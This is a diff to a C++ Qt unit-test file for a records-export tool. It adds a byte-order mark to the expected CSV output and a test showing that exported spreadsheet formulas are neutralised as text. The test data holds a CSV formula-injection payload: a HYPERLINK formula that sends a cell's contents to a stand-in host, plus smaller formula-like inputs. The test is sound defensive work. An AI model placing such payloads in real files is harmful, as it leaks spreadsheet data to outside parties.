@@ -12,6 +12,8 @@
 #include <QTest>
 #include <sys/stat.h>
 
+using namespace Qt::StringLiterals;
+
 namespace {
 // Written out here rather than taken from the tool, so that a slip in either shows.
 const QString kHeader = QStringLiteral(
@@ -59,6 +61,7 @@ private slots:
     void verify_data();
     void verify();
     void exportKeepsWhatExists();
+    void exportsAreSafeInASpreadsheet();
     void search_data();
     void search();
     void commandLine_data();
@@ -111,7 +114,8 @@ void TstRecordsTool::damagedLinesAreNamed() {
     const Run exported = call(exportRecords, path, QString(), false);
     QCOMPARE(std::make_tuple(exported.err, exported.status), std::make_tuple(errors, status));
     QCOMPARE(readBytes(env.path("3-14-2026 AlmLog.csv")),
-             plain.isEmpty() ? QByteArray() : (plain.join("\r\n") + "\r\n").toUtf8());
+             "\xEF\xBB\xBF" +
+                 (plain.isEmpty() ? QByteArray() : (plain.join("\r\n") + "\r\n").toUtf8()));
 }
 
 void TstRecordsTool::verify_data() {
@@ -186,7 +190,8 @@ void TstRecordsTool::exportKeepsWhatExists() {
     const QString data = env.path("batch 42.slg");
     const QString csv = env.path("batch 42.csv");
     QVERIFY(writeBytes(data, enciphered(kDataLines)));
-    const QByteArray expected = (kDataLines.join(QStringLiteral("\r\n")) + "\r\n").toUtf8();
+    const QByteArray expected =
+        "\xEF\xBB\xBF" + (kDataLines.join(QStringLiteral("\r\n")) + "\r\n").toUtf8();
     QCOMPARE(call(exportRecords, data, QString(), false).status, int(kOk));
     QCOMPARE(readBytes(csv), expected);
 
@@ -213,6 +218,33 @@ void TstRecordsTool::exportKeepsWhatExists() {
     QCOMPARE(run.status, int(kUnusable));
     QCOMPARE(run.err, QStringList{"/dev/zero: cannot be read: line 1 is longer than any record "
                                   "line; the file is damaged"});
+}
+
+void TstRecordsTool::exportsAreSafeInASpreadsheet() {
+    TestEnv env;
+    const QString message = uR"(=HYPERLINK("http://example.invalid/?"&A3;"details")&0)"_s;
+    const QString data = env.path("run.slg");
+    QVERIFY(writeBytes(
+        data, enciphered({"Date,Time,Operator Message,TIC-1,",
+                          "3/14/2026,10:00:05," + message + ".,-2.5,",
+                          "3/14/2026,10:00:06,@SUM(A1),+3e-4,", "3/14/2026,10:00:07,-1-1,- 2,-2e,",
+                          u"3/14/2026,10:00:08,\t+x,\"Jos\u00e9\","_s})));
+    const QString sif = env.path("run.sif");
+    QVERIFY(writeBytes(sif, enciphered({kHeader, "3/14/2026,10:01:00,jdoe,Jane Doe,QA,"
+                                                 "Signed,=1+2 reviewed," +
+                                                     QString(64, u'A')})));
+    QCOMPARE(call(exportRecords, data, QString(), false).status, int(kOk));
+    QCOMPARE(call(exportRecords, sif, env.path("sif.csv"), false).status, int(kOk));
+    // Text that a spreadsheet would run is shown as text; numbers stay numbers; every line keeps
+    // its fields, the empty one behind the closing comma too.
+    QCOMPARE(csvAsASpreadsheetReadsIt(env.path("run.csv")),
+             (QList<QStringList>{{"Date", "Time", "Operator Message", "TIC-1", ""},
+                                 {"3/14/2026", "10:00:05", "'" + message + ".", "-2.5", ""},
+                                 {"3/14/2026", "10:00:06", "'@SUM(A1)", "+3e-4", ""},
+                                 {"3/14/2026", "10:00:07", "'-1-1", "'- 2", "'-2e", ""},
+                                 {"3/14/2026", "10:00:08", "'\t+x", u"\"Jos\u00e9\""_s, ""}}));
+    QCOMPARE(csvAsASpreadsheetReadsIt(env.path("sif.csv")).value(1).value(6),
+             QStringLiteral("'=1+2 reviewed"));
 }
 
 void TstRecordsTool::search_data() {
